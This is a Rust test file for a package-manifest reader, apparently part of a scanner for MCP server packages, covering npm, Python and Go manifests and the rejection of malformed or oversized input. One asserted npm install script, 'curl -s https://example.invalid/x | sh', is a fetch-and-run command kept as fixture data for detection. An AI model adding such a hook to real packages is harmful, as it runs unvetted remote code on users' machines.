//! Package manifest readers, on fixtures under `fixtures/manifest/`.

use assay_core::PackageInfo;
use assay_rules::manifest::{self, MAX_MANIFEST_BYTES};

fn read(fixture: &str, as_path: &str) -> Option<PackageInfo> {
    let dir = concat!(env!("CARGO_MANIFEST_DIR"), "/tests/fixtures/manifest/");
    let text = std::fs::read_to_string(format!("{dir}{fixture}")).expect("fixture exists");
    manifest::read(as_path, &text)
}

fn deps(info: &PackageInfo) -> Vec<(&str, Option<&str>, &str)> {
    info.dependencies
        .iter()
        .map(|d| (d.name.as_str(), d.requirement.as_deref(), d.scope.as_str()))
        .collect()
}

#[test]
fn package_json() {
    let info = read("npm/package.json", "pkg/package.json").expect("manifest");
    insta::assert_json_snapshot!("package_json", info);
    assert_eq!(info.ecosystem, "npm");
    assert_eq!(info.name.as_deref(), Some("@acme/mcp-files"));
    assert_eq!(
        deps(&info),
        [
            ("@modelcontextprotocol/sdk", Some("^1.12.0"), "runtime"),
            ("zod", Some("3.23.8"), "runtime"),
            ("typescript", Some("~5.6.0"), "dev"),
            ("fsevents", Some("*"), "optional"),
            ("react", Some(">=18"), "peer"),
        ]
    );
    assert_eq!(
        info.install_scripts,
        [
            "preinstall: node scripts/check.js",
            "postinstall: curl -s https://example.invalid/x | sh",
            "prepare: npm run build",
        ]
    );
    assert_eq!(
        info.entry_points,
        ["mcp-files: dist/cli.js", "mcp-files-admin: dist/admin.js"]
    );
    let single = read("npm/single-bin.package.json", "package.json").expect("manifest");
    assert_eq!(single.entry_points, ["tool: ./cli.js"]);
}

#[test]
fn pyproject_pep621() {
    let info = read("pep621/pyproject.toml", "pyproject.toml").expect("manifest");
    insta::assert_json_snapshot!("pyproject_pep621", info);
    assert_eq!(info.ecosystem, "pypi");
    assert_eq!(
        (info.name.as_deref(), info.version.as_deref()),
        (Some("mcp-server-git"), Some("0.6.2"))
    );
    assert_eq!(
        deps(&info),
        [
            ("mcp", Some(">=1.2.0"), "runtime"),
            ("gitpython", Some(">=3.1.43"), "runtime"),
            ("click", None, "runtime"),
            (
                "helper",
                Some("@ git+https://example.invalid/helper.git"),
                "runtime"
            ),
            ("pytest", Some(">=8"), "optional"),
            ("ruff", Some("==0.6.9"), "dev"),
            ("hatchling", Some(">=1.24"), "build"),
            ("hatch-vcs", None, "build"),
        ]
    );
    assert_eq!(info.entry_points, ["mcp-server-git: mcp_server_git:main"]);
}

#[test]
fn pyproject_poetry() {
    let info = read("poetry/pyproject.toml", "a/b/pyproject.toml").expect("manifest");
    insta::assert_json_snapshot!("pyproject_poetry", info);
    assert_eq!(info.name.as_deref(), Some("weather-mcp"));
    assert_eq!(
        deps(&info),
        [
            // TOML tables are read in key order.
            ("fastmcp", Some(">=2.3"), "optional"),
            ("httpx", Some("^0.27"), "runtime"),
            (
                "private-lib",
                Some("git+https://example.invalid/lib.git@v1.0"),
                "runtime"
            ),
            ("pytest", Some("^8.0"), "dev"),
        ]
    );
    assert_eq!(info.entry_points, ["weather-mcp: weather_mcp.server:run"]);
}

#[test]
fn setup_cfg_and_setup_py() {
    let cfg = read("setuptools/setup.cfg", "setup.cfg").expect("manifest");
    insta::assert_json_snapshot!("setup_cfg", cfg);
    assert_eq!(
        (cfg.name.as_deref(), cfg.version.as_deref()),
        (Some("legacy-mcp"), Some("2.0.1"))
    );
    assert_eq!(
        deps(&cfg),
        [
            ("mcp", Some(">=1.0"), "runtime"),
            ("requests", Some(">=2.31"), "runtime"),
            ("setuptools_scm", None, "build"),
            ("pyyaml", Some(">=6"), "optional"),
        ]
    );
    assert_eq!(cfg.entry_points, ["legacy-mcp: legacy_mcp.cli:main"]);

    let py = read("setuptools/setup.py", "src/setup.py").expect("manifest");
    insta::assert_json_snapshot!("setup_py", py);
    assert_eq!(
        (py.name.as_deref(), py.version.as_deref()),
        (Some("setup-py-mcp"), Some("1.2.3"))
    );
    assert_eq!(
        deps(&py),
        [
            ("mcp", Some(">=1.0"), "runtime"),
            ("httpx", None, "runtime"),
            ("pytest", None, "dev"),
            ("boto3", Some(">=1.34"), "optional"),
        ]
    );
    assert_eq!(py.entry_points, ["setup-py-mcp: setup_py_mcp:main"]);
}

#[test]
fn go_mod() {
    let info = read("gomod/go.mod", "go.mod").expect("manifest");
    insta::assert_json_snapshot!("go_mod", info);
    assert_eq!(info.ecosystem, "go");
    assert_eq!(info.name.as_deref(), Some("github.com/acme/mcp-go-server"));
    assert_eq!(info.version, None);
    assert_eq!(
        deps(&info),
        [
            ("github.com/mark3labs/mcp-go", Some("v0.32.0"), "runtime"),
            ("github.com/google/uuid", Some("v1.6.0"), "indirect"),
            ("github.com/spf13/cast", Some("v1.7.1"), "runtime"),
            ("golang.org/x/sys", Some("v0.30.0"), "indirect"),
        ]
    );
}

#[test]
fn malformed_and_unrelated_files_yield_nothing() {
    assert_eq!(read("malformed/package.json", "package.json"), None);
    assert_eq!(read("malformed/pyproject.toml", "pyproject.toml"), None);
    assert_eq!(read("malformed/go.mod", "go.mod"), None, "no module line");
    // The right content under a name that is not a manifest.
    assert_eq!(read("npm/package.json", "package.json.bak"), None);
    // Tool-only configuration files are not package manifests.
    assert_eq!(
        manifest::read("pyproject.toml", "[tool.ruff]\nline-length = 100\n"),
        None
    );
    assert_eq!(
        manifest::read("setup.cfg", "[flake8]\nmax-line-length = 1\n"),
        None
    );
    assert_eq!(manifest::read("setup.py", "print('hello')\n"), None);
    assert_eq!(manifest::read("package.json", "[1, 2, 3]"), None);
    // Hostile shapes: deep nesting and oversized input are refused, not crashed on.
    let deep = format!("{}{}", "[".repeat(100_000), "]".repeat(100_000));
    assert_eq!(manifest::read("package.json", &deep), None);
    let deep_toml = format!("x = {}{}", "[".repeat(100_000), "]".repeat(100_000));
    assert_eq!(manifest::read("pyproject.toml", &deep_toml), None);
    let huge = format!(
        "{{\"name\": \"x\", \"description\": \"{}\"}}",
        "a".repeat(MAX_MANIFEST_BYTES)
    );
    assert_eq!(manifest::read("package.json", &huge), None);
}
